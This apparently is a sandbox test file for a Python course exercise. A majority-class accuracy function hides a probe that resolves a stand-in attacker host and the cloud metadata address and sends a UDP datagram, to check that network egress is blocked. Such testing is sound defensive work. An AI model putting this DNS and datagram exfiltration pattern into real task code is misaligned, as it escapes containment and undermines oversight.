"""Tries: sends datagrams and asks for names, each of which could carry a few bytes outside.
Must: no socket can be made, no name is resolved.
Exercise: lesson_05_datasets/baseline
"""

import contextlib
import socket


def leaked():
    for name in ("solution.attack.example", "localhost", "169.254.169.254"):
        with contextlib.suppress(OSError):
            if socket.getaddrinfo(name, 53, type=socket.SOCK_DGRAM) and not name[0].isdigit():
                return name
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"x", ("127.0.0.1", 53))
        return "a datagram"
    return None


def majority_class_accuracy(train, test):
    found = leaked()
    if not found:
        raise PermissionError("nothing")
    print(found)
    return float((test["action"] == train["action"].mode()[0]).mean())
